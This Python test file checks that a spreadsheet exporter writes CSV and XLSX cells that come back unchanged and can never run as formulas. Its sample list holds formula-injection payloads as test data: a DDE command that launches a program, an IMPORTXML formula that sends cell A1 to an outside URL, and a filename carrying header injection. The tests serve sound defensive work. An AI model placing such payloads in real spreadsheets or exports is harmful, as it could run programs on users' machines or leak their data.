"""Whatever is exported comes back the same, and nothing in it can run as a formula."""

import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from common.importer import parsing
from common.importer.cell_texts import from_xml, neutralize, restore, to_xml
from common.importer.containers import check_package
from common.importer.delimited import read_delimited
from common.importer.exporting import ExportSheet, answer_with_file, lines_for_child, write_csv, write_xlsx
from common.importer.limits import LIMITS
from common.importer.sheets import ColumnSpec, SheetKind
from common.importer.workbooks import read_workbook
from common.importer.writing import write_workbook
from common.refusals import Refused
from tests.importer.making import read, rows

KIND = SheetKind(
    key="organization",
    label="Organization",
    plural="Organizations",
    columns=(ColumnSpec("name", "Name"), ColumnSpec("notes", "Notes", parse=parsing.prose, width=60)),
)
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1 951 555 0100",
    "-5",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1+1",
    "＝1+1",
    '=HYPERLINK("http://example.org","x")',
    '=IMPORTXML(CONCAT("http://example.org",A1),"//a")',
    "'=1",
    "''=1",
    "'Twas",
    "''quoted''",
    "'",
    "-",
    "#N/A",
    "#REF!",
    "TRUE",
    "06065",
    "1E5",
    "_x000D_",
    "_x0001\x01",
    "\x0b\x1f\ufffe",
    "a\r\nb\rc",
    "\u202eevil",
    "<b>&amp;</b>",
    "; | , \t \" '",
]


def export(write, table):
    sheet = ExportSheet(KIND, ({"name": name, "notes": notes} for name, notes in table))
    with write([sheet]) if write is write_xlsx else write(sheet) as made:
        return made.read()


def padded(row):
    return [*row, "", ""][:2]


@pytest.mark.parametrize("write", [write_xlsx, write_csv])
def test_every_odd_text_comes_back(write):
    table = [[text, "x"] for text in FORMULAS] + [["x", text] for text in FORMULAS]
    assert [padded(row) for row in rows(export(write, table))] == [["Name", "Notes"], *table]


def test_no_cell_that_we_write_is_a_formula_or_an_error():
    data = export(write_xlsx, [[text, text] for text in FORMULAS])
    cells = [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "inlineStr", "n"}
    assert all(cell.value is None or cell.value[0] not in "=+-@\t\r\n" for cell in cells)
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize(
    "text", [text for text in FORMULAS if text.lstrip("'").lstrip()[:1] in "=+-@＝" and text != "'"]
)
def test_in_csv_a_risky_text_stands_behind_an_apostrophe(text):
    line = export(write_csv, [[text, "x"]]).decode("utf-8-sig").split("\r\n", 1)[1]
    assert line.startswith("\"'")


TEXT = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=40)
RISKY = st.one_of(
    TEXT, st.sampled_from(FORMULAS), st.builds("{}{}".format, st.sampled_from(["'", "=", "\t", "_x0041_"]), TEXT)
)


@given(RISKY)
def test_an_apostrophe_is_put_and_taken_exactly(text):
    assert restore(neutralize(text)) == text
    assert neutralize(text)[:1] not in {"=", "+", "-", "@", "\t", "\r", "\n"}


@given(RISKY)
def test_what_xml_cannot_carry_is_escaped_and_comes_back(text):
    assert from_xml(to_xml(text)) == text


TABLES = st.lists(st.tuples(RISKY, RISKY).filter(any).map(list), max_size=30)


def cells_of(one):
    return [padded(cells) for _number, cells in one.sheets[0].rows]


@settings(deadline=None)
@given(table=TABLES)
def test_any_table_of_texts_comes_back_from_a_workbook(table):
    """In this process, for many examples; the tests above go through the child."""
    made = io.BytesIO()
    sheet = ExportSheet(KIND, ({"name": name, "notes": notes} for name, notes in table))
    write_workbook(lines_for_child([sheet]), made)
    check_package(made, LIMITS)
    assert cells_of(read_workbook(made, LIMITS)) == [["Name", "Notes"], *table]


@settings(deadline=None)
@given(table=TABLES)
def test_any_table_of_texts_comes_back_from_csv(table):
    assert cells_of(read_delimited(export(write_csv, table), LIMITS)) == [["Name", "Notes"], *table]


@settings(deadline=None)
@given(texts=st.lists(RISKY.filter(bool), max_size=20))
def test_a_single_column_of_texts_comes_back_from_csv(texts):
    kind = SheetKind("note", "Note", "Notes", columns=(ColumnSpec("note", "Note; or remark"),))
    with write_csv(ExportSheet(kind, ({"note": text} for text in texts))) as made:
        found = read_delimited(made.read(), LIMITS).sheets[0].rows
    assert [cells for _number, cells in found] == [["Note; or remark"], *([text] for text in texts)]


def test_typed_values_are_typed_cells_and_come_back_as_text():
    columns = tuple(ColumnSpec(key, key.title()) for key in ("day", "at", "count", "money", "share", "open", "none"))
    kind = SheetKind("fact", "Fact", "Facts", columns=columns)
    at = dt.datetime(2026, 5, 3, 17, 30, tzinfo=dt.UTC)
    row = {"day": dt.date(2026, 5, 3), "at": at, "count": -7, "money": Decimal("1250.50"), "share": Decimal("0.1")}
    row |= {"open": True, "none": None}
    text = ["2026-05-03", "2026-05-03 17:30", "-7", "1250.5", "0.1", "Yes"]
    with write_xlsx([ExportSheet(kind, [row])]) as made:
        data = made.read()
    assert rows(data)[1] == text
    assert load_workbook(io.BytesIO(data)).active["D2"].value == 1250.5
    with write_csv(ExportSheet(kind, [row])) as made:
        assert rows(made.read())[1] == [*text[:3], "1250.50", *text[4:]]


def test_a_workbook_for_people_has_a_sheet_per_kind_widths_and_a_fixed_header():
    odd = SheetKind("odd", "Odd", "Odd/names: [all] of them, and too long for Excel", columns=KIND.columns)
    with write_xlsx([ExportSheet(KIND, []), ExportSheet(KIND, []), ExportSheet(odd, [])]) as made:
        book = load_workbook(io.BytesIO(made.read()))
    assert book.sheetnames == ["Organizations", "Organizations (2)", "Odd names all of them, and too"]
    sheet = book["Organizations"]
    assert (sheet.freeze_panes, sheet.column_dimensions["B"].width, sheet["A1"].font.bold) == ("A2", 60, True)


def test_a_text_that_excel_cannot_take_is_refused_and_csv_takes_it():
    long = "x" * 40_000
    with pytest.raises(Refused, match="Export as CSV"):
        export(write_xlsx, [["a", long]])
    assert rows(export(write_csv, [["a", long]]))[1] == ["a", long]


@pytest.mark.parametrize(("end", "kind"), [("csv", "text/csv; charset=utf-8"), ("xlsx", "application/vnd.openxml")])
def test_a_download_is_named_and_attached(end, kind):
    sheet = ExportSheet(KIND, [{"name": "Ana"}])
    made = write_csv(sheet) if end == "csv" else write_xlsx([sheet])
    answer = answer_with_file(made, name=f'Pa"rt\r\nners.{end}')
    assert answer["Content-Type"].startswith(kind)
    assert answer["Content-Disposition"].startswith("attachment")
    assert "\n" not in answer["Content-Disposition"]
    assert rows(answer.getvalue()) == [["Name", "Notes"], ["Ana"]]


def test_ten_thousand_rows_go_out_and_come_back():
    table = [[f"Organization {number}", "Texts of the usual length, twice. " * 2] for number in range(10_000)]
    for write in (write_xlsx, write_csv):
        book = read(export(write, table))
        assert [cells for _number, cells in book.sheets[0].rows[1:]] == [[a, b] for a, b in table]
